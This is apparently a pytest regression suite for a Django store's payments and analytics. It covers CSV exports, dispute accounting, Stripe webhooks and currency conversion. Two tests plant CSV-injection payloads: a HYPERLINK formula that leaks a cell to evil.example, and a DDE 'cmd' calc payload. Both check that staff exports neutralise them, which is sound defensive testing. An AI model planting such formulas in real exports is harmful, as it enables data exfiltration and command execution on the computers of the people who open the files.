"""Regressions from the second review (payments and analytics): CSV exports that could
carry a formula, lost disputes and late payments in the daily figures, signed tokens and
long sources in visits, odd Stripe signatures, lost webhook tasks, currencies without
cents. Each test failed before its fix. (The fulfillment ones are in tests/fulfillment.)
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

pytestmark = pytest.mark.django_db


# --- analytics ---------------------------------------------------------------------------------

BROWSER = "Mozilla/5.0 (X11; Linux x86_64) Firefox/130.0"


def _csv(client, table: str, day) -> list[list[str]]:
    response = client.get(
        reverse("analytics:staff-export", args=[table]),
        {"start": day.isoformat(), "end": day.isoformat()},
    )
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_sources_export_defuses_a_formula_planted_through_utm_source(client, staff_login, owner):
    from analytics.models import Visit
    from analytics.selectors import store_today

    planted = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    response = client.get("/", {"utm_source": planted}, HTTP_USER_AGENT=BROWSER)
    assert response.status_code == 200
    assert Visit.objects.get().source.startswith("=")  # recorded as typed (lowercased)

    staff_login(owner)
    rows = _csv(client, "sources", store_today())
    cells = [row[0] for row in rows[1:]]
    assert cells, rows
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells), cells


def test_products_export_defuses_a_formula_in_a_product_title(client, staff_login, owner):
    from analytics.models import ProductView
    from analytics.selectors import store_today
    from tests.factories import ProductFactory

    product = ProductFactory(title="=1+2*cmd|' /C calc'!A0")
    from django.utils import timezone

    ProductView.objects.create(visit_key="a" * 32, product=product, viewed_at=timezone.now())

    staff_login(owner)
    rows = _csv(client, "products", store_today())
    titles = [row[1] for row in rows[1:]]
    assert titles, rows
    assert not any(title.startswith(FORMULA_STARTS) for title in titles), titles


def test_a_lost_dispute_counts_in_the_days_refunds(make_order):
    from analytics.models import DailyKpi
    from analytics.selectors import store_today
    from analytics.services import kpis_roll_up
    from orders.disputes import dispute_record
    from orders.models import Dispute

    order = make_order()
    dispute_record(
        payment=order.payments.get(),
        reference="dp_lost",
        status=Dispute.Status.LOST,
        amount=order.total,
        currency=order.currency,
        reason="fraudulent",
    )
    order.refresh_from_db()
    assert order.refunded_total == order.total  # the order's books: all of it went back

    today = store_today()
    kpis_roll_up(first=today, last=today)
    kpi = DailyKpi.objects.get(day=today)
    assert kpi.gross_revenue == order.total
    assert (kpi.refunds, kpi.net_revenue) == (order.total, Decimal("0.00"))


def test_a_long_referrer_host_fits_the_source_column(rf):
    from analytics.middleware import page_view_for
    from analytics.models import Visit, Visitor

    host = ".".join(["a" * 60, "b" * 60, "c" * 60]) + ".example"  # a valid 190-char name
    request = rf.get("/", HTTP_USER_AGENT=BROWSER, HTTP_REFERER=f"https://{host}/page")
    from django.contrib.auth.models import AnonymousUser

    request.user = AnonymousUser()
    view = page_view_for(request)
    assert len(view.source) <= Visit._meta.get_field("source").max_length
    assert len(view.source) <= Visitor._meta.get_field("first_source").max_length


# --- payments ----------------------------------------------------------------------------------


def test_a_non_ascii_stripe_signature_is_a_400_not_a_crash(client, settings):
    settings.STRIPE_WEBHOOK_SECRET = "whsec_test"
    client.raise_request_exception = False
    response = client.post(
        reverse("orders:stripe-webhook"),
        data=b'{"id": "evt_1"}',
        content_type="application/json",
        HTTP_STRIPE_SIGNATURE="t=1700000000,v1=\u00e9\u00e9",
    )
    assert response.status_code == 400


def test_visits_do_not_keep_the_order_status_token(client, make_order):
    from analytics.models import Visit
    from orders.emails import order_status_token

    order = make_order(paid=False)
    token = order_status_token(order)
    for name in ("orders:order-status", "orders:pay"):
        response = client.get(reverse(name, args=[token]), HTTP_USER_AGENT=BROWSER)
        assert response.status_code == 200
    visit = Visit.objects.get()
    assert visit.page_views == 2  # the visits are recorded...
    assert token not in visit.landing_path  # ...but not the credential in their path


@pytest.mark.postgres
def test_a_visit_from_a_long_referrer_host_is_recorded(client):
    from analytics.models import Visit

    host = ".".join(["a" * 60, "b" * 60, "c" * 60]) + ".example"
    response = client.get("/", HTTP_USER_AGENT=BROWSER, HTTP_REFERER=f"https://{host}/")
    assert response.status_code == 200
    assert Visit.objects.count() == 1


def test_an_order_paid_days_after_it_was_placed_counts_in_its_days_revenue(make_order):
    from datetime import timedelta

    from django.utils import timezone

    from analytics.models import DailyKpi
    from analytics.selectors import store_today
    from analytics.services import kpis_roll_up_due
    from orders.models import Order
    from orders.services import order_mark_paid
    from tests.factories import StaffFactory

    today = store_today()
    placed_on = today - timedelta(days=4)
    order = make_order(paid=False)  # bank transfer, waiting for the money
    Order.objects.filter(pk=order.pk).update(created_at=timezone.now() - timedelta(days=4))
    kpis_roll_up_due(today=today)  # the nightly job: the day is rolled, nothing paid yet
    assert DailyKpi.objects.get(day=placed_on).orders == 0

    order_mark_paid(order=Order.objects.get(pk=order.pk), actor=StaffFactory())
    kpis_roll_up_due(today=today + timedelta(days=1))  # the next nights
    kpis_roll_up_due(today=today + timedelta(days=2))

    kpi = DailyKpi.objects.get(day=placed_on)
    assert (kpi.orders, kpi.gross_revenue) == (1, order.total)


@pytest.mark.parametrize("currency", ["PYG", "XPF", "RWF"])
def test_stripe_amounts_of_every_zero_decimal_currency_are_whole_units(currency):
    from orders.payments.stripe_provider import from_minor_units, to_minor_units

    assert to_minor_units(Decimal("50000"), currency) == 50000
    assert from_minor_units(50000, currency) == Decimal("50000")


def test_a_redelivered_event_whose_task_was_lost_is_applied(
    client, stripe_order, stripe_fake, django_capture_on_commit_callbacks, monkeypatch
):
    from kombu.exceptions import OperationalError as BrokerDown

    from orders.models import Payment
    from orders.tasks import webhook_event_apply_task
    from tests.fakes import stripe_events as ev

    payment = stripe_order.payments.get()
    payload = ev.event("payment_intent.succeeded", ev.intent(payment.reference))

    def broker_down(*args, **kwargs):
        raise BrokerDown("Connection refused")

    monkeypatch.setattr(webhook_event_apply_task, "delay", broker_down)
    # In production the row commits, then the on-commit enqueue fails: the view answers 500.
    with pytest.raises(BrokerDown), django_capture_on_commit_callbacks(execute=True):
        ev.deliver(client, payload)
    from orders.models import WebhookEvent

    assert WebhookEvent.objects.get().processed_at is None  # stored, never applied
    monkeypatch.undo()

    with django_capture_on_commit_callbacks(execute=True):
        again = ev.deliver(client, payload)  # Stripe's redelivery, the broker is back
    assert again.status_code == 200
    payment.refresh_from_db()
    assert payment.status == Payment.Status.SUCCEEDED


def test_isk_goes_to_stripe_in_two_decimal_form():
    from orders.payments.stripe_provider import from_minor_units, to_minor_units

    assert to_minor_units(Decimal("5"), "ISK") == 500
    assert from_minor_units(500, "ISK") == Decimal("5")
